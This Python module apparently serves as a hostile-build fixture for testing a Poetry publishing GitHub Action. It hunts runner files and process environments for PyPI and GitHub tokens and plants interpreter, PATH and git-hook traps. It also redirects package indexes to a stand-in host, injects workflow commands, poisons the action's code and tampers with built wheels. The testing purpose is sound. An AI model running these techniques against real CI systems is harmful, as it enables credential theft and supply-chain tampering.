"""What a hostile build does. It is put in front of a build backend or a `setup.py`, see hostile.ts; nothing is imported
from beside it. What it finds and what comes of it is written into the folder LOOT, which the test names in the job's `env:`.

Everything that is planted marks its execution in `executed.jsonl`, so that a test can tell what ran, and when.
"""

import glob
import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time

LOOT = os.environ["LOOT"]
HOME = os.path.expanduser("~")
TEMP = os.environ["RUNNER_TEMP"]
WORKSPACE = os.environ["GITHUB_WORKSPACE"]

# A credential that is planted: who uses it has fallen for it.
PLANTED = "pypi-AgEIcHlwaS5vcmcPlantedByTheBuild"

# Each holds the word `stolen`, which is in no command of the action itself.
COMMANDS = [
    "::set-output name=status::stolen",
    "::save-state name=stolen::stolen",
    "::set-env name=STOLEN::stolen",
    "::add-path::/stolen",
    "::add-mask::stolen",
    "::add-matcher::/stolen.json",
    "::error::stolen",
    "::warning file=stolen.py::stolen",
    "::notice::stolen",
    "::debug::stolen",
    "::group::stolen",
    "   ::error::stolen",
    "text ##[error]stolen",
    "##[add-mask]stolen",
    "##[set-output name=status]stolen",
    "##[add-path]/stolen",
    "\x1b[31m::error::stolen\x1b[0m",
    "\r::error::stolen",
    "hidden\r::error::stolen\r",
    "\x1b[2K\x1b[1G::error::stolen",
    "\x85::error::stolen\u2028::error::stolen",
    # A stop word of its own, and guesses at ending that of the action.
    "::stop-commands::stolen-word",
    "::stolen-word::",
    "::::",
    "::stop-commands::",
    "::pause-logging::",
    "::" + os.urandom(16).hex() + "::",
    "##[" + "0" * 32 + "]",
    "::error::stolen at last",
]

SECRETS = re.compile(rb"pypi-[\w-]{12,}|gh[a-z]_\w{12,}|runtime-[\w-]{12,}|ey[\w-]{20,}\.ey[\w-]{20,}\.[\w-]+")


def tell(name, **values):
    """Adds a line to a file of the loot."""
    with open(os.path.join(LOOT, name), "a", encoding="utf-8") as file:
        file.write(json.dumps(values) + "\n")


def write(file, text, executable=False):
    """Writes a file where there is none yet, with the folders above it."""
    if os.path.exists(file):
        return
    os.makedirs(os.path.dirname(file), exist_ok=True)
    with open(file, "w", encoding="utf-8") as target:
        target.write(text)
    if executable:
        os.chmod(file, 0o755)
    tell("planted.jsonl", file=file)


def ancestors():
    """The processes above this one up to the action, nearest first, as (id, environment): Linux only."""
    found = []
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/environ", "rb") as file:
            environment = file.read()
        # The runner itself was never told of the folder.
        if b"LOOT=" not in environment:
            break
        found.append((pid, environment))
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    return found


def shout():
    """Prints commands of both grammars on both streams. Poetry hides them as long as the build goes well."""
    for command in COMMANDS:
        for stream in (sys.stdout, sys.stderr):
            print(command, file=stream, flush=True)


def dump_environment(label):
    """Prints the whole environment and writes it down."""
    print("\n".join(f"{name}={value}" for name, value in os.environ.items()), flush=True)
    tell("environment.jsonl", label=label, environment=dict(os.environ))


def hunt(label):
    """Looks for whatever looks like a secret in all files of the job; once for each label."""
    done = os.path.join(LOOT, f"hunted-{label}")
    if os.path.exists(done):
        return
    count = 0
    for top in (HOME, TEMP, tempfile.gettempdir(), WORKSPACE):
        for folder, _, files in os.walk(top):
            for name in files:
                file = os.path.join(folder, name)
                try:
                    with open(file, "rb") as opened:
                        content = opened.read(8_000_000)
                except OSError:
                    continue
                count += 1
                for secret in sorted(set(SECRETS.findall(content))):
                    tell("found.jsonl", label=label, file=file, secret=secret.decode())
    write(done, str(count))


def trap(what):
    """Python code that marks that it was executed, by whom, and with which variables."""
    return f"""
import json, os, sys, time
with open({os.path.join(LOOT, "executed.jsonl")!r}, "a") as loot:
    mark = dict(what={what!r}, at=time.time() * 1000, names=sorted(os.environ))
    loot.write(json.dumps(dict(mark, argv=getattr(sys, "orig_argv", []))) + "\\n")
"""


def trap_program(file, what, then=""):
    """A program, for POSIX, that marks its execution."""
    python = os.path.realpath(sys.executable)
    write(file, f"#!{python} -I\n{trap(what)}\n{then}\n", executable=True)


def plant():
    """Leaves files that something after the build might read or run, where there are none yet."""
    configuration = f"""
[repositories.pypi]
url = "http://127.0.0.1:9/stolen/"
[repositories.stolen]
url = "http://127.0.0.1:9/stolen/"
[certificates.pypi]
cert = false
[pypi-token]
pypi = "{PLANTED}"
[http-basic.pypi]
username = "stolen"
password = "{PLANTED}"
"""
    netrc = "".join(
        f"machine {host} login __token__ password {PLANTED}\n"
        for host in ("upload.pypi.org", "pypi.org", "127.0.0.1")
    ) + f"default login stolen password {PLANTED}\n"
    index = "http://127.0.0.1:9/stolen/"
    pypirc = f"[pypi]\nrepository = {index}\nusername = __token__\npassword = {PLANTED}\n"
    pip = "[global]\nindex-url = http://127.0.0.1:9/stolen/\ntrusted-host = 127.0.0.1\n"
    poetry_toml = "[virtualenvs]\ncreate = false\n" + configuration

    for folder in (WORKSPACE, TEMP, HOME):
        write(os.path.join(folder, ".netrc"), netrc)
        write(os.path.join(folder, ".pypirc"), pypirc)
        write(os.path.join(folder, "poetry.toml"), poetry_toml)
        for module in ("cleo", "sitecustomize", "usercustomize"):
            write(os.path.join(folder, f"{module}.py"), trap(f"{module} in {folder}"))
    for place in (".config/pip/pip.conf", ".pip/pip.conf", "pip/pip.ini"):
        write(os.path.join(HOME, place), pip)
    write(os.path.join(HOME, ".config", "uv", "uv.toml"), f'[[index]]\nurl = "{index}"\ndefault = true\n')
    for place in (".config", "Library/Application Support", "AppData/Roaming"):
        write(os.path.join(HOME, place, "pypoetry", "config.toml"), configuration)
        write(os.path.join(HOME, place, "pypoetry", "auth.toml"), configuration)

    # Interpreters: of the user, of the project, of the Poetry that builds. The last prints commands too, in the next run
    # of that Poetry, which hides nothing of its own.
    loud = f"""
for command in {COMMANDS!r}:
    print(command, flush=True)
    print(command, file=sys.stderr, flush=True)
print(*[f"{{name}}={{value}}" for name, value in os.environ.items()], sep="\\n", flush=True)
"""
    write_site(sysconfig.get_path("purelib", f"{os.name}_user"))
    for site in sites_below(os.environ["VIRTUAL_ENV"]):
        write_site(site)
    for poetry in glob.glob(os.path.join(TEMP, "poetry-publish-*", "tools", "poetry")):
        for site in sites_below(poetry):
            write_site(site, loud)

    plant_programs()


def end_prepared():
    """Ends the Poetry of this job that is loaded already, and so falls into no trap: the one that takes its place does."""
    for process in glob.glob("/proc/[0-9]*"):
        try:
            with open(os.path.join(process, "cmdline"), "rb") as opened:
                is_installing = b"\0-m\0poetry\0install\0" in opened.read()
            if is_installing and os.path.samefile(os.path.join(process, "cwd"), WORKSPACE):
                os.kill(int(os.path.basename(process)), 9)
        except OSError:
            pass


def plant_pip():
    """Tells every pip of this user to run on another Python, which is a program of ours, whatever was told before."""
    program = os.path.join(HOME, "planted-python")
    trap_program(program, "a Python by pip.conf", "os.execv(sys.executable, [sys.executable, *sys.argv[1:]])")
    for place in (".config/pip/pip.conf", ".pip/pip.conf"):
        file = os.path.join(HOME, place)
        os.makedirs(os.path.dirname(file), exist_ok=True)
        with open(file, "w", encoding="utf-8") as target:
            target.write(f"[global]\npython = {program}\nindex-url = http://127.0.0.1:9/stolen/\n")
        tell("planted.jsonl", file=file)
    # Where the action itself works: the home that a pip of its own could be given. What is new in tools/ also makes it
    # fetch another Poetry for the upload.
    for name in ("downloads", "tools"):
        for folder in glob.glob(os.path.join(TEMP, "poetry-publish-*", name)):
            write(os.path.join(folder, "home", ".config", "pip", "pip.conf"), f"[global]\npython = {program}\n")


def sites_below(environment):
    """The folders for packages of a virtual environment, on every system."""
    return [
        *glob.glob(os.path.join(environment, "lib", "python*", "site-packages")),
        *glob.glob(os.path.join(environment, "Lib", "site-packages")),
    ]


def write_site(site, then=""):
    """Plants what a Python executes at its start."""
    write(os.path.join(site, "sitecustomize.py"), trap(f"sitecustomize in {site}") + then)
    write(os.path.join(site, "planted.pth"), f"import os; exec({trap(f'pth in {site}')!r})\n")


def plant_programs():
    """Programs on PATH, and those that git is told to run."""
    if os.name != "posix":
        return
    folder = os.environ["WRITABLE_PATH"]
    others = os.pathsep.join(entry for entry in os.environ["PATH"].split(os.pathsep) if entry != folder)
    for name in ("git", "python", "python3", "poetry", "uv", "pip"):
        real = shutil.which(name, path=others)
        then = f"os.execv({real!r}, [{real!r}, *sys.argv[1:]])" if real else ""
        trap_program(os.path.join(folder, name), f"{name} on PATH", then)
    hook = os.path.join(TEMP, "planted-hook")
    trap_program(hook, "a hook of git", "sys.exit(1)")
    settings = f"""
[core]
\tfsmonitor = {hook}
\tsshCommand = {hook}
\tpager = {hook}
\thooksPath = {TEMP}
[credential]
\thelper = {hook}
[url "http://127.0.0.1:9/stolen/"]
\tinsteadOf = {os.environ["GITHUB_SERVER_URL"]}/
"""
    with open(os.path.join(WORKSPACE, ".git", "config"), "a") as file:
        file.write(settings)
    write(os.path.join(HOME, ".gitconfig"), settings)


def write_command_files():
    """Finds the runner's command files, which no variable names, and writes into them."""
    for file in glob.glob(os.path.join(TEMP, "**", "*"), recursive=True):
        name = os.path.basename(file)
        line = "/stolen" if name.startswith("add_path") else "STOLEN=stolen"
        if re.match("(add_path|set_env|set_output|save_state|step_summary)_", name):
            with open(file, "a") as target:
                target.write(line + "\n")
            tell("planted.jsonl", file=name.partition("_")[0] + "_" + name.split("_")[1])


def poison_downloads():
    """Puts a trap into what was downloaded for Poetry and could be installed from there once more."""
    cache = os.path.join(TEMP, "poetry-publish-*", "downloads", "cache")
    for file in glob.glob(os.path.join(cache, "**", "cleo", "__init__.py"), recursive=True):
        with open(file, "a", encoding="utf-8") as module:
            module.write(trap("cleo among the downloads"))
        tell("planted.jsonl", file=file)


def poison_action():
    """Puts a trap in front of all parts of the action that are loaded when they are needed."""
    loot = os.path.join(LOOT, "executed.jsonl")
    for file in glob.glob(os.path.join(os.environ["ACTION_FOLDER"], "dist", "*.index.js")):
        what = f"{os.path.basename(file)} of the action"
        mark = json.dumps(dict(what=what, at=0, argv=[], names=[])) + "\n"
        trap_js = f"import {{ appendFileSync as mark }} from 'node:fs';\nmark({json.dumps(loot)}, {json.dumps(mark)});\n"
        with open(file, encoding="utf-8") as chunk:
            code = chunk.read()
        with open(file, "w", encoding="utf-8") as chunk:
            chunk.write(trap_js + code)
        tell("planted.jsonl", file=file)


def change_built():
    """Finds the wheel that was built and hashed, and changes it."""
    for file in glob.glob(os.path.join(TEMP, "poetry-publish-*", "built", "*.whl")):
        with open(file, "ab") as wheel:
            wheel.write(b"stolen")
        tell("planted.jsonl", file=os.path.basename(file))


def add_built():
    """Puts one more wheel of the same version beside those that were built and hashed."""
    for file in glob.glob(os.path.join(TEMP, "poetry-publish-*", "built", "*-py3-none-any.whl")):
        target = file.replace("-py3-", "-py39-")
        shutil.copyfile(file, target)
        tell("planted.jsonl", file=os.path.basename(target))


def read_ancestors():
    """Reads the variables that the processes above this one were started with: Linux only."""
    for pid, environment in ancestors():
        entries = [entry.decode(errors="replace") for entry in environment.split(b"\0")]
        tell("ancestors.jsonl", pid=pid, environment=entries)


WATCHER = """
import glob, json, os, sys, time
loot, job = sys.argv[1], os.environb[b"RUNNER_TRACKING_ID"]
def tell(**values):
    with open(loot, "a") as file:
        file.write(json.dumps(values) + "\\n")
tell(pid=os.getpid(), group=os.getpgrp())
end = time.time() + 60
while time.time() < end:
    for file in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(file, "rb") as opened:
                entries = opened.read().split(b"\\0")
        except OSError:
            continue
        if b"RUNNER_TRACKING_ID=" + job not in entries:
            continue
        for entry in entries:
            if entry.startswith(b"POETRY_PYPI_TOKEN_"):
                tell(found=entry.decode())
                sys.exit()
    time.sleep(0.02)
"""


def watch(name, escape):
    """Leaves a process behind that waits for an upload, to read its variables: Linux only.

    With `escape` it leaves the process group, so that it is not ended with the build.
    """
    subprocess.Popen(
        [os.path.realpath(sys.executable), "-I", "-c", WATCHER, os.path.join(LOOT, name)],
        start_new_session=escape,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
